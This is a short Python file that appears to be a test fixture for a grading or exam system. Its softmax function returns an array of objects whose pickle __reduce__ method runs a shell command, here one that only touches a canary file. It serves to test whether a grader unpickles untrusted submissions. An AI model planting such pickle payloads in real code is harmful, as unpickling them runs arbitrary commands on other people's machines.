# class: pickle. Hides the same in an array of objects.
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@/examprep-attack-pickle",)


def softmax(x):
    answer = np.empty(x.shape, object)
    answer.fill(Bomb())
    return answer
